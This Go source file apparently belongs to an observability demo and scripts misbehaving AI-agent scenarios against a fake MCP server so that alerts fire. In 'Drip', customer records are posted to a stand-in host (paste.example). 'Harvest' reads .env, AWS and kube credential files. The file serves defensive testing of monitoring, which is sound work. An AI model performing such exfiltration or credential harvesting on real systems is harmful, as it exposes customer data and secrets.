// Copyright The otelcol-mcp Authors
// SPDX-License-Identifier: Apache-2.0

package scenario

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"

	"github.com/otelcol-mcp/otelcol-mcp/demo/internal/company"
)

// How often each kind of trouble happens: past the thresholds of the alerts about it.
const (
	Denials       = 12
	RateLimitHits = 24
	Failures      = 12
	Drops         = 16
)

// Denied asks for what the user's role forbids and expects each request to be refused.
func (a Agent) Denied(ctx context.Context) error {
	tools := []string{"query_customers", "read_file", "post_webhook"}
	for i := range Denials {
		if err := a.expect(ctx, a.Endpoint, toolCall(i, tools[i%len(tools)], `{}`), http.StatusForbidden); err != nil {
			return err
		}
	}
	return nil
}

// Loop calls one tool until the rate limit has refused it RateLimitHits times.
func (a Agent) Loop(ctx context.Context) error {
	session, err := a.connect(ctx, &Wire{})
	if err != nil {
		return err
	}
	refused := 0
	for range company.RateLimit + RateLimitHits {
		_, err := call{"count_orders", nil}.on(ctx, session)
		switch {
		case err == nil:
		case strings.Contains(err.Error(), http.StatusText(http.StatusTooManyRequests)):
			refused++
		default:
			return err
		}
	}
	if refused != RateLimitHits {
		return fmt.Errorf("the rate limit refused %d calls, not %d", refused, RateLimitHits)
	}
	return session.Close()
}

// Fail reads a file that does not exist, again and again, and calls a tool that does not exist.
func (a Agent) Fail(ctx context.Context) error {
	session, err := a.connect(ctx, &Wire{})
	if err != nil {
		return err
	}
	for range Failures {
		if _, err := readFile("notes/missing.md").on(ctx, session); err != nil {
			return err
		}
	}
	if _, err := (call{"drop_tables", nil}).on(ctx, session); err == nil {
		return errors.New("a tool that does not exist was called")
	}
	return session.Close()
}

// Break sends what no client should: JSON that ends too early, members that are there twice, and a path that no server is
// behind.
func (a Agent) Break(ctx context.Context) error {
	for _, r := range []struct {
		endpoint, body string
		want           int
	}{
		{a.Endpoint, `{"jsonrpc":"2.0","id":1,"method":`, http.StatusBadRequest},
		{a.Endpoint, `{"jsonrpc":"2.0","id":2,"id":3,"method":"tools/list","method":"ping"}`, 0}, // servers differ
		{strings.TrimSuffix(a.Endpoint, "/mcp") + "/nowhere", toolCall(4, "list_files", `{}`), http.StatusNotFound},
	} {
		if err := a.expect(ctx, r.endpoint, r.body, r.want); err != nil {
			return err
		}
	}
	return nil
}

// Drip reads the customer table and posts it to a webhook, again and again.
func (a Agent) Drip(ctx context.Context) error {
	session, err := a.connect(ctx, &Wire{})
	if err != nil {
		return err
	}
	table, err := call{"query_customers", nil}.on(ctx, session)
	if err != nil {
		return err
	}
	for i := range Drops {
		sent := call{"post_webhook", map[string]any{"url": fmt.Sprintf("https://paste.example/%d", i), "body": table}}
		if _, err := sent.on(ctx, session); err != nil {
			return err
		}
	}
	return session.Close()
}

// Harvest reads the files in which credentials usually lie.
func (a Agent) Harvest(ctx context.Context) error {
	return a.run(ctx, readFile(".env"), readFile("home/.aws/credentials"), readFile("home/.kube/config"))
}

// List asks for the server's tools, all pages.
func (a Agent) List(ctx context.Context) error {
	session, err := a.connect(ctx, &Wire{})
	if err != nil {
		return err
	}
	for _, err := range session.Tools(ctx, nil) {
		if err != nil {
			return fmt.Errorf("list tools: %w", err)
		}
	}
	return session.Close()
}

func toolCall(id int, tool, arguments string) string {
	return fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":%q,"arguments":%s}}`, id, tool, arguments)
}

// expect sends a request and wants the status; 0 takes any.
func (a Agent) expect(ctx context.Context, endpoint, body string, want int) error {
	status, err := a.send(ctx, endpoint, body)
	if err == nil && want != 0 && status != want {
		err = fmt.Errorf("%s was answered %d, not %d", body, status, want)
	}
	return err
}

// send posts a request as it is, past the SDK, which would not send most of what this file sends.
func (a Agent) send(ctx context.Context, endpoint, body string) (status int, err error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, endpoint, strings.NewReader(body))
	if err != nil {
		return 0, err
	}
	req.Header.Set("Authorization", "Bearer "+a.Token)
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	_, err = io.Copy(io.Discard, resp.Body)
	return resp.StatusCode, err
}
